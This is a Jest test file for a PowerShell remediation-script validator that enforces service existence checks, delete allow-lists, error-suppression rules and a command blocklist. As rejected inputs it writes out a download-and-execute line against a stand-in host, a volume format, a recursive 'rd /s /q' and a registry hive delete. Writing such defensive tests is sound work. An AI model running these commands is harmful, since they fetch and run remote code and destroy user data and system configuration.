import { sanitizeScript } from '../src/remediation/script-sanitizer';
import {
  SafetyValidator,
  getRiskLevel,
  isEphemeralPath,
  maskQuotedText,
  splitCommandSegments,
  validateScript
} from '../src/security/script-validator';
import { computeScriptDigest } from '../src/security';
import { SafetyReport } from '../src/types';

// Sanitized scripts start with the six-line guard and a blank line, so body line 1 is line 8
const validate = (body: string): SafetyReport => validateScript(sanitizeScript(body));
const summary = (report: SafetyReport): string[] =>
  report.violations.map(violation => `${violation.rule}@${violation.lineNumber}`);

const EXAMPLE_FIX = [
  'Write-Host "Initializing remediation protocols..." -ForegroundColor Cyan',
  '',
  "$intelServices = @('esrv_svc', 'SurSvc', 'esrv')",
  'foreach ($svc in $intelServices) {',
  '    $service = Get-Service -Name $svc -ErrorAction SilentlyContinue',
  '    if ($service) {',
  '        Write-Host "Found Intel service: $($svc)" -ForegroundColor Yellow',
  '        Stop-Service -Name $svc -Force -ErrorAction SilentlyContinue',
  '        Set-Service -Name $svc -StartupType Disabled -ErrorAction SilentlyContinue',
  '        Write-Host "Disabled: $($svc)" -ForegroundColor Green',
  '    }',
  '}',
  '',
  'Remove-Item -Path "$env:TEMP\\*" -Recurse -Force -ErrorAction SilentlyContinue'
].join('\n');

describe('splitCommandSegments', () => {
  it('splits statements and marks piped segments', () => {
    const segments = splitCommandSegments('a; b | c');
    expect(segments.map(segment => segment.text)).toEqual(['a', 'b', 'c']);
    expect(segments.map(segment => segment.piped)).toEqual([false, false, true]);
  });

  it('drops comments but keeps # inside quotes', () => {
    const segments = splitCommandSegments('Write-Host "# not a comment" # real comment');
    expect(segments.map(segment => segment.text)).toEqual(['Write-Host "# not a comment"']);
  });

  it('skips block comments and here-string bodies', () => {
    const segments = splitCommandSegments('<#\nStop-Service x\n#>\n$t = @"\nStop-Service -Name y\n"@\nWrite-Host 1');
    expect(segments.map(segment => [segment.lineNumber, segment.text])).toEqual([
      [4, '$t = @""'],
      [7, 'Write-Host 1']
    ]);
  });

  it('records the script-block depth of each segment', () => {
    const segments = splitCommandSegments('gci x | ForEach-Object {\n  Remove-Item $_\n}\nWrite-Host done');
    expect(segments.map(segment => [segment.text, segment.depth])).toEqual([
      ['gci x', 0],
      ['ForEach-Object', 0],
      ['Remove-Item $_', 1],
      ['Write-Host done', 0]
    ]);
  });

  it('joins backtick line continuations onto the first line', () => {
    const segments = splitCommandSegments('Stop-Service `\n  -Name Spooler');
    expect(segments).toHaveLength(1);
    expect(segments[0].lineNumber).toBe(1);
    expect(segments[0].text).toBe('Stop-Service  -Name Spooler');
  });
});

describe('SafetyValidator - service existence checks', () => {
  it('accepts a stop preceded by a check for the same service', () => {
    const report = validate([
      "$svc = Get-Service -Name 'Spooler' -ErrorAction SilentlyContinue",
      'if ($svc) {',
      "    Stop-Service -Name 'Spooler' -Force -ErrorAction SilentlyContinue",
      '}'
    ].join('\n'));
    expect(report.passed).toBe(true);
    expect(report.violations).toEqual([]);
    expect(report.riskScore).toBe(4);
    expect(report.riskLevel).toBe('VERY LOW');
  });

  it('rejects a stop with no existence check', () => {
    const report = validate("Stop-Service -Name 'wuauserv' -ErrorAction SilentlyContinue");
    expect(report.passed).toBe(false);
    expect(report.violations).toEqual([
      {
        rule: 'service-existence-check',
        lineNumber: 8,
        offendingLine: "Stop-Service -Name 'wuauserv' -ErrorAction SilentlyContinue",
        detail: "Stop-Service wuauserv is not preceded by an existence check for 'wuauserv'"
      }
    ]);
  });

  it('rejects a check for a different service', () => {
    const report = validate([
      "Get-Service -Name 'BITS' -ErrorAction SilentlyContinue",
      "Stop-Service -Name 'wuauserv' -ErrorAction SilentlyContinue"
    ].join('\n'));
    expect(summary(report)).toEqual(['service-existence-check@9']);
  });

  it('rejects a check that comes after the stop', () => {
    const report = validate([
      "Restart-Service -Name 'Spooler' -ErrorAction SilentlyContinue",
      "Get-Service -Name 'Spooler' -ErrorAction SilentlyContinue"
    ].join('\n'));
    expect(summary(report)).toEqual(['service-existence-check@8']);
  });

  it('compares service names case-insensitively', () => {
    const report = validate([
      "Get-Service -Name 'spooler' -ErrorAction SilentlyContinue",
      "Restart-Service -Name 'SPOOLER' -ErrorAction SilentlyContinue"
    ].join('\n'));
    expect(report.passed).toBe(true);
  });

  it('follows the service through a pipeline', () => {
    const report = validate("Get-Service -Name 'Spooler' -ErrorAction SilentlyContinue | Stop-Service -ErrorAction SilentlyContinue");
    expect(report.passed).toBe(true);
  });

  it('follows the service through a variable and -InputObject', () => {
    const report = validate([
      "$s = Get-Service -Name 'BITS' -ErrorAction SilentlyContinue",
      'Stop-Service -InputObject $s -ErrorAction SilentlyContinue',
      '$s | Restart-Service -ErrorAction SilentlyContinue'
    ].join('\n'));
    expect(report.passed).toBe(true);
  });

  it('rejects a piped stop whose service cannot be determined', () => {
    const report = validate('$list | Stop-Service -ErrorAction SilentlyContinue');
    expect(report.violations).toHaveLength(1);
    expect(report.violations[0].detail).toBe('Stop-Service: target service could not be determined');
  });

  it('treats disabling a service as a mutation but not other startup changes', () => {
    const disabled = validate("Set-Service -Name 'SysMain' -StartupType Disabled -ErrorAction SilentlyContinue");
    const manual = validate("Set-Service -Name 'SysMain' -StartupType Manual -ErrorAction SilentlyContinue");
    expect(summary(disabled)).toEqual(['service-existence-check@8']);
    expect(manual.passed).toBe(true);
  });

  it('does not count a service command mentioned inside a string', () => {
    const report = validate([
      'Write-Host "Next: Get-Service Spooler"',
      'Stop-Service -Name Spooler -Force -ErrorAction SilentlyContinue'
    ].join('\n'));
    expect(report.passed).toBe(false);
    expect(report.violations.map(violation => violation.detail)).toEqual([
      "Stop-Service Spooler is not preceded by an existence check for 'Spooler'"
    ]);

    const assigned = validate("$note = 'run gsv Spooler first'\nRestart-Service Spooler -ErrorAction SilentlyContinue");
    expect(summary(assigned)).toEqual(['service-existence-check@9']);
  });

  it('accepts a CIM lookup whose filter names the service', () => {
    const report = validate([
      `$svc = Get-CimInstance -ClassName Win32_Service -Filter "Name='Spooler'"`,
      'if ($svc) { Stop-Service -Name Spooler -ErrorAction SilentlyContinue }'
    ].join('\n'));
    expect(report.passed).toBe(true);
  });

  it('checks sc.exe stops against sc.exe queries', () => {
    expect(summary(validate('sc.exe stop wuauserv'))).toEqual(['service-existence-check@8']);
    expect(validate('sc.exe query wuauserv\nsc.exe stop wuauserv').passed).toBe(true);
  });

  it('ignores service commands inside here-strings', () => {
    expect(validate('Write-Host @"\nStop-Service -Name x\n"@').passed).toBe(true);
  });

  it('accepts the example fix used in the prompt', () => {
    const report = validate(EXAMPLE_FIX);
    expect(report.violations).toEqual([]);
    expect(report.passed).toBe(true);
    expect(report.riskLevel).toBe('MEDIUM');
  });
});

describe('SafetyValidator - destructive filesystem operations', () => {
  it('rejects a recursive delete outside the allow-list', () => {
    const report = validate('Remove-Item -Path "C:\\Users\\Public\\Documents\\*" -Recurse -Force -ErrorAction SilentlyContinue');
    expect(report.violations).toEqual([
      {
        rule: 'destructive-filesystem',
        lineNumber: 8,
        offendingLine: 'Remove-Item -Path "C:\\Users\\Public\\Documents\\*" -Recurse -Force -ErrorAction SilentlyContinue',
        detail: "Remove-Item targets 'C:\\Users\\Public\\Documents\\*', outside the allowed temporary and cache locations"
      }
    ]);
  });

  it('accepts deletes inside temp and cache locations', () => {
    expect(validate('Remove-Item "C:\\Windows\\Temp\\*" -Recurse -ErrorAction SilentlyContinue').passed).toBe(true);
    expect(validate('Remove-Item -Path "${env:TEMP}\\cache" -Recurse -ErrorAction SilentlyContinue').passed).toBe(true);
  });

  it('rejects deleting an allowed location itself or escaping it', () => {
    expect(summary(validate('Remove-Item -Path "$env:TEMP" -Recurse -ErrorAction SilentlyContinue')))
      .toEqual(['destructive-filesystem@8']);
    expect(summary(validate('Remove-Item -Path "$env:TEMP\\..\\Documents" -Recurse -ErrorAction SilentlyContinue')))
      .toEqual(['destructive-filesystem@8']);
  });

  it('allows a single non-recursive file delete anywhere', () => {
    expect(validate('Remove-Item -Path "C:\\ProgramData\\App\\stale.lock" -Force -ErrorAction SilentlyContinue').passed).toBe(true);
  });

  it('allows clearing the contents of an allowed location through a pipeline', () => {
    const report = validate('Get-ChildItem -Path "$env:TEMP" -Recurse | Remove-Item -Recurse -Force -ErrorAction SilentlyContinue');
    expect(report.passed).toBe(true);
  });

  it('treats deleting a recursive listing as a recursive delete', () => {
    const report = validate('Get-ChildItem -Path "C:\\Users" -Recurse | Remove-Item -Force -ErrorAction SilentlyContinue');
    expect(report.passed).toBe(false);
    expect(report.violations.map(violation => [violation.rule, violation.lineNumber, violation.detail])).toEqual([
      ['destructive-filesystem', 8, "Remove-Item targets 'C:\\Users', outside the allowed temporary and cache locations"]
    ]);
  });

  it('follows a recursive listing through filters, script blocks and variables', () => {
    const filtered = validate(
      'Get-ChildItem -Path "C:\\Users" -Recurse | Where-Object { $_.Length -gt 0 } | Remove-Item -Force -ErrorAction SilentlyContinue'
    );
    const perItem = validate(
      'Get-ChildItem "C:\\Users" -Recurse | ForEach-Object { Remove-Item $_.FullName -Force -ErrorAction SilentlyContinue }'
    );
    const stored = validate([
      '$old = Get-ChildItem -Path "D:\\Archive" -Recurse',
      'Remove-Item -Path $old -Force -ErrorAction SilentlyContinue'
    ].join('\n'));

    expect(summary(filtered)).toEqual(['destructive-filesystem@8']);
    expect(summary(perItem)).toEqual(['destructive-filesystem@8']);
    expect(summary(stored)).toEqual(['destructive-filesystem@9']);
    expect(stored.violations[0].detail).toBe("Remove-Item targets 'D:\\Archive', outside the allowed temporary and cache locations");
  });

  it('still allows filtered clean-up inside an allowed location and flat listings elsewhere', () => {
    expect(validate(
      'Get-ChildItem -Path "$env:TEMP" -Recurse | Where-Object { $_.Length -gt 0 } | Remove-Item -Force -ErrorAction SilentlyContinue'
    ).passed).toBe(true);
    expect(validate(
      'Get-ChildItem -Path "C:\\ProgramData\\App" -Filter *.lock | Remove-Item -Force -ErrorAction SilentlyContinue'
    ).passed).toBe(true);
  });

  it('always rejects formatting a volume', () => {
    const report = validate('Format-Volume -DriveLetter D');
    expect(report.violations.map(violation => violation.detail)).toEqual(['Format-Volume never targets an ephemeral location']);
  });

  it('checks cmd-style recursive deletes', () => {
    const report = validate('cmd /c rd /s /q C:\\Data');
    expect(report.violations.map(violation => violation.detail)).toEqual([
      "rd targets 'C:\\Data', outside the allowed temporary and cache locations"
    ]);
  });
});

describe('SafetyValidator - error suppression', () => {
  it('requires suppression on best-effort commands', () => {
    const report = validate('Clear-DnsClientCache');
    expect(report.violations).toEqual([
      {
        rule: 'missing-error-suppression',
        lineNumber: 8,
        offendingLine: 'Clear-DnsClientCache',
        detail: 'Clear-DnsClientCache is best-effort and needs -ErrorAction SilentlyContinue'
      }
    ]);
  });

  it('accepts the short -EA form', () => {
    expect(validate('Clear-DnsClientCache -EA 0').passed).toBe(true);
  });

  it('rejects suppression on restore-point creation', () => {
    const suppressed = validate("Checkpoint-Computer -Description 'pre-fix' -RestorePointType MODIFY_SETTINGS -ErrorAction SilentlyContinue");
    const strict = validate("Checkpoint-Computer -Description 'pre-fix' -RestorePointType MODIFY_SETTINGS -ErrorAction Stop");
    expect(summary(suppressed)).toEqual(['critical-error-suppressed@8']);
    expect(strict.passed).toBe(true);
  });
});

describe('SafetyValidator - guard, blocklist and ordering', () => {
  it('requires the elevation guard as the first statement', () => {
    const report = validateScript({ text: 'Write-Host "hi"', guardInjected: false, rewrites: [] });
    expect(report.violations).toEqual([
      {
        rule: 'elevation-guard',
        lineNumber: 1,
        offendingLine: 'Write-Host "hi"',
        detail: 'the elevation guard must be the first executable statement'
      }
    ]);
  });

  it('blocks shutdown and registry hive deletes', () => {
    expect(summary(validate('Stop-Computer -Force'))).toEqual(['blocked-command@8']);
    expect(summary(validate('reg delete HKLM\\SYSTEM\\CurrentControlSet\\Services\\Foo /f'))).toEqual(['blocked-command@8']);
  });

  it('flags download-and-execute patterns', () => {
    const report = validate("IEX (New-Object System.Net.WebClient).DownloadString('http://example.invalid/a.ps1')");
    expect(report.passed).toBe(false);
    expect(report.violations).toHaveLength(3);
    expect(report.violations.every(violation => violation.rule === 'download-execute')).toBe(true);
  });

  it('orders violations by line, keeping rule order within a line', () => {
    const report = validate("Clear-DnsClientCache\nStop-Service -Name 'wuauserv'");
    expect(summary(report)).toEqual([
      'missing-error-suppression@8',
      'service-existence-check@9',
      'missing-error-suppression@9'
    ]);
  });

  it('binds the report to the exact script text', () => {
    const script = sanitizeScript('Write-Host "ok"');
    const report = new SafetyValidator().validate(script);
    expect(report.scriptDigest).toBe(computeScriptDigest(script.text));
    expect(report.passed).toBe(true);
  });
});

describe('risk helpers', () => {
  it('maps scores to levels', () => {
    expect([0, 4, 5, 19, 20, 40].map(getRiskLevel)).toEqual(['NONE', 'VERY LOW', 'LOW', 'MEDIUM', 'HIGH', 'CRITICAL']);
  });

  it('blanks quoted text without moving anything', () => {
    expect(maskQuotedText(`Write-Host "a b" 'c' "open`)).toBe(`Write-Host "   " ' ' "    `);
  });

  it('recognises allowed paths', () => {
    expect(isEphemeralPath('C:/Windows/Temp/x')).toBe(true);
    expect(isEphemeralPath('$env:windir\\Prefetch\\*.pf')).toBe(true);
    expect(isEphemeralPath('C:\\Windows\\System32')).toBe(false);
    expect(isEphemeralPath('$env:TEMP', true)).toBe(true);
  });
});
